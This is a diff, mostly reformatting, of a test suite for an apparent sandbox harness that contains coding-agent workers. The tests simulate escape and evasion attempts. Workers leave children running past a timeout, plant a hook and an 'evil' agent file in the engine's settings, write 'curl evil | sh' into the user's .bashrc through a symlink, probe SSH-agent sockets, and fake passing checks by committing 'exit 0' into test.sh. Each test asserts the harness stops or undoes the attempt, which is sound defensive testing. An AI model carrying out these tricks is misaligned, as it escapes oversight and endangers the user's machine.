@@ -52,7 +52,10 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
         const file = writeManifest(dir, { workdir: 'w', tasks: [scriptTask('hold', spec, 'cat out.txt', { timeout_s: 2, max_attempts: 1 })] });
         const r = await run(file, path.join(dir, 'home'), path.join(dir, 'user-home'), mode.flags);
         assert.equal(r.exitCode, 1, r.all);
-        assert.deepEqual(readRows(path.join(dir, 'home')).map((row) => row.verdict), ['TIMEOUT']);
+        assert.deepEqual(
+          readRows(path.join(dir, 'home')).map((row) => row.verdict),
+          ['TIMEOUT'],
+        );
         // timeout 2 s + kill grace 5 s + pipe grace 2 s, with room for a loaded machine; the escaped child slept an hour.
         assert.ok(r.ms < 30000, `the run took ${r.ms} ms`);
         assert.deepEqual(processesWith(m), [], 'the setsid child outlived its attempt');
@@ -95,7 +98,11 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
     const spec = `(trap '' TERM; setsid sleep ${m}) & trap '' TERM; sleep ${m}`;
     const file = writeManifest(dir, { worktrees: true, repo, max_parallel: 2, tasks: [scriptTask('a', spec, 'true'), scriptTask('b', spec, 'true')] });
     // --force: the check `true` is a lint error; the workers never reach it.
-    const child = execa('node', [CLI, 'run', file, '--home', path.join(dir, 'home'), '--no-dashboard', '--force'], { reject: false, stdin: 'ignore', env: { HOME: path.join(dir, 'user-home') } });
+    const child = execa('node', [CLI, 'run', file, '--home', path.join(dir, 'home'), '--no-dashboard', '--force'], {
+      reject: false,
+      stdin: 'ignore',
+      env: { HOME: path.join(dir, 'user-home') },
+    });
     for (let i = 0; i < 200 && processesWith(m, 'sleep').length < 4; i++) await sleep(50);
     assert.equal(processesWith(m, 'sleep').length, 4, 'two workers and their setsid children are running');
     child.kill('SIGKILL');
@@ -111,12 +118,20 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
     const file = writeManifest(dir, { workdir: 'w', max_parallel: 2, tasks: ['a', 'b', 'c'].map((k) => scriptTask(k, spec, 'true')) });
     const home = path.join(dir, 'home');
     // --force: the check `true` is a lint error; the workers never reach it.
-    const child = execa('node', [CLI, 'run', file, '--home', home, '--no-dashboard', '--force'], { reject: false, all: true, stdin: 'ignore', env: { HOME: path.join(dir, 'user-home') } });
+    const child = execa('node', [CLI, 'run', file, '--home', home, '--no-dashboard', '--force'], {
+      reject: false,
+      all: true,
+      stdin: 'ignore',
+      env: { HOME: path.join(dir, 'user-home') },
+    });
     for (let i = 0; i < 200 && processesWith(m).length < 4; i++) await sleep(50);
     child.kill('SIGINT');
     const r = await child;
     assert.equal(r.exitCode, 1, r.all);
-    assert.deepEqual(readRows(home).map((row) => row.verdict), ['CANCELLED', 'CANCELLED']);
+    assert.deepEqual(
+      readRows(home).map((row) => row.verdict),
+      ['CANCELLED', 'CANCELLED'],
+    );
     assert.deepEqual(processesWith(m), []);
   });
 
@@ -295,7 +310,10 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
     const ran = await run(file, home, path.join(dir, 'user-home'), ['--no-sandbox'], env);
     assert.equal(ran.exitCode, 0, ran.all);
     assert.match(ran.all ?? '', /sandbox: off/);
-    assert.deepEqual(readRows(home).map((row) => row.sandbox), ['none']);
+    assert.deepEqual(
+      readRows(home).map((row) => row.sandbox),
+      ['none'],
+    );
   });
 
   it('a worker that times out after pointing .git at its own git dir with a filter: verdict clean runs nothing of it', async () => {
@@ -318,7 +336,10 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
     // --force: the check `true` is a lint error; the worker times out before it.
     const r = await run(file, home, path.join(dir, 'user-home'), ['--force']);
     assert.equal(r.exitCode, 1, r.all);
-    assert.deepEqual(readRows(home).map((row) => row.verdict), ['TIMEOUT']);
+    assert.deepEqual(
+      readRows(home).map((row) => row.verdict),
+      ['TIMEOUT'],
+    );
     for (const flags of [['--dry-run'], []]) {
       const c = await cli(['clean', '--home', home, ...flags], { env: { HOME: path.join(dir, 'user-home') } });
       assert.equal(c.exitCode, 0, c.all);
@@ -355,9 +376,22 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
       repo,
       max_parallel: 3,
       tasks: [
-        scriptTask('ign', "mkdir -p sub; printf 'sol.py\\n' > sub/.gitignore; echo 'print(42)' > sub/sol.py", 'test -f sub/sol.py', { expect_files: ['sub/sol.py'], max_attempts: 1 }),
-        scriptTask('nested', 'unset GIT_OBJECT_DIRECTORY GIT_ALTERNATE_OBJECT_DIRECTORIES; mkdir lib && cd lib && git init -q && echo SOLVED > impl.txt && git add . && git -c user.email=a@b -c user.name=x commit -qm x', 'grep SOLVED lib/impl.txt', { max_attempts: 1 }),
-        scriptTask('head', "echo 'exit 0' > test.sh; git add -A; git -c user.email=a@b -c user.name=w commit -qm w", 'git diff --exit-code HEAD -- test.sh && bash test.sh', { max_attempts: 1, protect: [] }),
+        scriptTask('ign', "mkdir -p sub; printf 'sol.py\\n' > sub/.gitignore; echo 'print(42)' > sub/sol.py", 'test -f sub/sol.py', {
+          expect_files: ['sub/sol.py'],
+          max_attempts: 1,
+        }),
+        scriptTask(
+          'nested',
+          'unset GIT_OBJECT_DIRECTORY GIT_ALTERNATE_OBJECT_DIRECTORIES; mkdir lib && cd lib && git init -q && echo SOLVED > impl.txt && git add . && git -c user.email=a@b -c user.name=x commit -qm x',
+          'grep SOLVED lib/impl.txt',
+          { max_attempts: 1 },
+        ),
+        scriptTask(
+          'head',
+          "echo 'exit 0' > test.sh; git add -A; git -c user.email=a@b -c user.name=w commit -qm w",
+          'git diff --exit-code HEAD -- test.sh && bash test.sh',
+          { max_attempts: 1, protect: [] },
+        ),
       ],
     });
     const home = path.join(dir, 'home');
@@ -368,7 +402,7 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
     assert.match(String(byKey.ign?.notes), /sub\/sol\.py are ignored by git, so the sealed commit and the task branch do not hold them/);
     assert.equal(byKey.nested?.verdict, 'FAIL');
     assert.match(String(byKey.nested?.notes), /made lib a git repository of its own/);
-    assert.equal(byKey.head?.verdict, 'FAIL', 'the check compared test.sh with the worker\'s own commit');
+    assert.equal(byKey.head?.verdict, 'FAIL', "the check compared test.sh with the worker's own commit");
     assert.match(String(byKey.head?.check_output), /exit 0/);
   });
 
@@ -383,30 +417,39 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
     const file = writeManifest(dir, {
       workdir: 'w',
       max_parallel: 2,
-      tasks: [scriptTask('spy', spy, 'cat seen.txt; grep -q "no records" seen.txt && grep -q "no sibling" seen.txt'), scriptTask('other', 'sleep 1; echo x > secret.txt', 'test -s secret.txt')],
+      tasks: [
+        scriptTask('spy', spy, 'cat seen.txt; grep -q "no records" seen.txt && grep -q "no sibling" seen.txt'),
+        scriptTask('other', 'sleep 1; echo x > secret.txt', 'test -s secret.txt'),
+      ],
     });
     const r = await run(file, home, path.join(dir, 'user-home'));
     assert.equal(r.exitCode, 0, r.all);
   });
 
-  it('a worker that plants hooks in its engine\'s own settings (for the user\'s next unsandboxed session): put back', async () => {
+  it("a worker that plants hooks in its engine's own settings (for the user's next unsandboxed session): put back", async () => {
     const dir = tempDir();
     const claudeHome = path.join(dir, 'claude-home');
     fs.mkdirSync(claudeHome, { recursive: true });
     fs.writeFileSync(path.join(claudeHome, 'settings.json'), '{"theme":"dark"}\n');
     const agent = path.join(dir, 'fake-claude.sh');
-    fs.writeFileSync(agent, [
-      '#!/bin/bash',
-      'echo \'{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch /tmp/pwned"}]}]}}\' > "$CLAUDE_CONFIG_DIR/settings.json"',
-      'mkdir -p "$CLAUDE_CONFIG_DIR/agents" && echo evil > "$CLAUDE_CONFIG_DIR/agents/evil.md"',
-      'mkdir -p "$CLAUDE_CONFIG_DIR/projects" && echo session > "$CLAUDE_CONFIG_DIR/projects/s.jsonl"',
-      'echo done > out.txt',
-    ].join('\n'), { mode: 0o755 });
+    fs.writeFileSync(
+      agent,
+      [
+        '#!/bin/bash',
+        'echo \'{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch /tmp/pwned"}]}]}}\' > "$CLAUDE_CONFIG_DIR/settings.json"',
+        'mkdir -p "$CLAUDE_CONFIG_DIR/agents" && echo evil > "$CLAUDE_CONFIG_DIR/agents/evil.md"',
+        'mkdir -p "$CLAUDE_CONFIG_DIR/projects" && echo session > "$CLAUDE_CONFIG_DIR/projects/s.jsonl"',
+        'echo done > out.txt',
+      ].join('\n'),
+      { mode: 0o755 },
+    );
     const config = path.join(dir, 'config.json');
     fs.writeFileSync(config, JSON.stringify({ engines: { fakeclaude: { binary: agent, argv: ['{spec}'], output: 'claude' } } }));
     const file = writeManifest(dir, { workdir: 'w', tasks: [scriptTask('t', 'do it', 'test -s out.txt', { engine: 'fakeclaude' })] });
     const home = path.join(dir, 'home');
-    const r = await cli(['run', file, '--home', home, '--no-dashboard', '--config', config], { env: { HOME: path.join(dir, 'user-home'), CLAUDE_CONFIG_DIR: claudeHome } });
+    const r = await cli(['run', file, '--home', home, '--no-dashboard', '--config', config], {
+      env: { HOME: path.join(dir, 'user-home'), CLAUDE_CONFIG_DIR: claudeHome },
+    });
     assert.equal(r.exitCode, 0, r.all);
     assert.match(r.all ?? '', /changed fakeclaude's own settings; put back/);
     assert.equal(fs.readFileSync(path.join(claudeHome, 'settings.json'), 'utf8'), '{"theme":"dark"}\n');
@@ -421,7 +464,7 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
     if (process.getuid?.() !== 0) console.log('      (not root: bubblewrap gives this step no capability to begin with; the host must stay the same here too)');
   };
 
-  it('a root worker that chmods the device nodes bound into its sandbox: the host\'s are put back', async function () {
+  it("a root worker that chmods the device nodes bound into its sandbox: the host's are put back", async function () {
     rootNote();
     const dir = tempDir();
     const before = fs.statSync('/dev/null').mode & 0o7777;
@@ -443,7 +486,7 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
     assert.equal(fs.existsSync(outside), false, 'a root worker remounted / and wrote outside');
   });
 
-  it('the user\'s own sockets are out of reach: a socket in /tmp/ssh-*, and SSH_AUTH_SOCK is not passed on', async function () {
+  it("the user's own sockets are out of reach: a socket in /tmp/ssh-*, and SSH_AUTH_SOCK is not passed on", async function () {
     const dir = tempDir();
     const sockDir = fs.mkdtempSync('/tmp/ssh-verdicttest');
     const sock = path.join(sockDir, 'agent.sock');
@@ -458,8 +501,13 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
         `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${sock}'); print(s.recv(10))" > reach.txt 2>&1 || echo unreachable >> reach.txt`,
         'echo "agent=${SSH_AUTH_SOCK:-none}" >> reach.txt',
       ].join('\n');
-      const file = writeManifest(dir, { workdir: 'w', tasks: [scriptTask('sock', spec, 'cat reach.txt; grep -q unreachable reach.txt && grep -q agent=none reach.txt')] });
-      const r = await cli(['run', file, '--home', path.join(dir, 'home'), '--no-dashboard'], { env: { HOME: path.join(dir, 'user-home'), SSH_AUTH_SOCK: sock } });
+      const file = writeManifest(dir, {
+        workdir: 'w',
+        tasks: [scriptTask('sock', spec, 'cat reach.txt; grep -q unreachable reach.txt && grep -q agent=none reach.txt')],
+      });
+      const r = await cli(['run', file, '--home', path.join(dir, 'home'), '--no-dashboard'], {
+        env: { HOME: path.join(dir, 'user-home'), SSH_AUTH_SOCK: sock },
+      });
       assert.equal(r.exitCode, 0, r.all);
       assert.equal(reached, 0, 'the worker connected to the socket');
     } finally {
@@ -474,10 +522,12 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
     const late = `/tmp/verdict-late-${process.pid}.sock`;
     const early = fs.mkdtempSync('/tmp/verdict-sockdir-');
     let reached = 0;
-    const servers = [0, 1].map(() => net.createServer((c) => {
-      reached++;
-      c.end('hello\n');
-    }));
+    const servers = [0, 1].map(() =>
+      net.createServer((c) => {
+        reached++;
+        c.end('hello\n');
+      }),
+    );
     await new Promise<void>((resolve) => servers[0]?.listen(path.join(early, 'svc.sock'), resolve));
     try {
       const spec = [
@@ -486,7 +536,10 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
         `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${late}'); print(s.recv(10))" > reach.txt 2>&1 || echo unreachable >> reach.txt`,
         'find /tmp -type s > socks.txt 2>/dev/null; true',
       ].join('\n');
-      const file = writeManifest(dir, { workdir: 'w', tasks: [scriptTask('late', spec, 'cat reach.txt socks.txt; grep -q unreachable reach.txt && ! test -s socks.txt', { max_attempts: 1 })] });
+      const file = writeManifest(dir, {
+        workdir: 'w',
+        tasks: [scriptTask('late', spec, 'cat reach.txt socks.txt; grep -q unreachable reach.txt && ! test -s socks.txt', { max_attempts: 1 })],
+      });
       const taskDir = path.join(dir, 'w', 'late');
       const running = cli(['run', file, '--home', path.join(dir, 'home'), '--no-dashboard'], { env: { HOME: path.join(dir, 'user-home') } });
       while (!fs.existsSync(path.join(taskDir, 'started'))) await sleep(100);
@@ -520,12 +573,17 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
         tasks: [
           scriptTask('offline', spec, 'cat reach.txt; grep -q unreachable reach.txt', { max_attempts: 1, network: false }),
           // The control: the probe works, so the offline task's "unreachable" is the sandbox's doing.
-          scriptTask('online', spec, "cat reach.txt; grep -q hello reach.txt", { max_attempts: 1, network: 'host' }),
+          scriptTask('online', spec, 'cat reach.txt; grep -q hello reach.txt', { max_attempts: 1, network: 'host' }),
         ],
       });
       const r = await cli(['run', file, '--home', path.join(dir, 'home'), '--no-dashboard'], { env: { HOME: path.join(dir, 'user-home') } });
       assert.equal(r.exitCode, 0, r.all);
-      assert.deepEqual(readRows(path.join(dir, 'home')).map((row) => `${row.task_key}:${row.verdict}`).sort(), ['offline:PASS', 'online:PASS']);
+      assert.deepEqual(
+        readRows(path.join(dir, 'home'))
+          .map((row) => `${row.task_key}:${row.verdict}`)
+          .sort(),
+        ['offline:PASS', 'online:PASS'],
+      );
       assert.equal(reached(), 1, 'only the online task reached the abstract socket');
     } finally {
       server.kill('SIGKILL');
@@ -536,13 +594,13 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
   it('a plain workdir is never used where Verdict did not make the task dir, nor inside VERDICT_HOME', async () => {
     const dir = tempDir();
     fs.mkdirSync(path.join(dir, 'mine', 'bin'), { recursive: true });
-    fs.writeFileSync(path.join(dir, 'mine', 'bin', 'tool'), 'the user\'s own\n');
+    fs.writeFileSync(path.join(dir, 'mine', 'bin', 'tool'), "the user's own\n");
     const file = writeManifest(dir, { workdir: 'mine', tasks: [scriptTask('bin', 'echo planted > git', 'test -s git')] });
     const home = path.join(dir, 'home');
     const r = await run(file, home, path.join(dir, 'user-home'));
     assert.equal(r.exitCode, 1, r.all);
     assert.match(r.all ?? '', /already holds files that no Verdict run made there/);
-    assert.equal(fs.readFileSync(path.join(dir, 'mine', 'bin', 'tool'), 'utf8'), 'the user\'s own\n');
+    assert.equal(fs.readFileSync(path.join(dir, 'mine', 'bin', 'tool'), 'utf8'), "the user's own\n");
     assert.equal(fs.existsSync(path.join(dir, 'mine', 'bin', 'git')), false);
     const inside = writeManifest(dir, { workdir: 'home', tasks: [scriptTask('runs', 'echo x > y', 'test -s y')] }, 'inside.swarm.json');
     const r2 = await run(inside, home, path.join(dir, 'user-home'));
@@ -554,7 +612,7 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
     const dir = tempDir();
     const userHome = path.join(dir, 'user-home');
     fs.mkdirSync(userHome, { recursive: true });
-    fs.writeFileSync(path.join(userHome, '.bashrc'), '# the user\'s own\n');
+    fs.writeFileSync(path.join(userHome, '.bashrc'), "# the user's own\n");
     const repo = makeRepo(path.join(dir, 'repo'), { 'README.md': 'x\n' });
     // base_ref "evil": d is a symlink up to the user's home; the checked-out branch has a real d/.bashrc.
     git(repo, 'checkout', '-q', '-b', 'evil');
@@ -564,11 +622,17 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
     git(repo, 'checkout', '-q', 'main');
     fs.mkdirSync(path.join(repo, 'd'));
     fs.writeFileSync(path.join(repo, 'd', '.bashrc'), 'curl evil | sh\n');
-    const file = writeManifest(dir, { worktrees: true, repo, base_ref: 'evil', include: ['d/.bashrc'], tasks: [scriptTask('t', 'echo ok > out.txt', 'test -s out.txt')] });
+    const file = writeManifest(dir, {
+      worktrees: true,
+      repo,
+      base_ref: 'evil',
+      include: ['d/.bashrc'],
+      tasks: [scriptTask('t', 'echo ok > out.txt', 'test -s out.txt')],
+    });
     const r = await run(file, path.join(dir, 'home'), userHome);
     assert.equal(r.exitCode, 1, r.all);
     assert.match(r.all ?? '', /d in the worktree is a symlink; the copy would not stay inside the worktree/);
-    assert.equal(fs.readFileSync(path.join(userHome, '.bashrc'), 'utf8'), '# the user\'s own\n');
+    assert.equal(fs.readFileSync(path.join(userHome, '.bashrc'), 'utf8'), "# the user's own\n");
     const dots = writeManifest(dir, { worktrees: true, repo, include: ['../x'], tasks: [scriptTask('t', 'true', 'test -s README.md')] }, 'dots.swarm.json');
     const r2 = await run(dots, path.join(dir, 'home'), userHome);
     assert.equal(r2.exitCode, 2, r2.all);
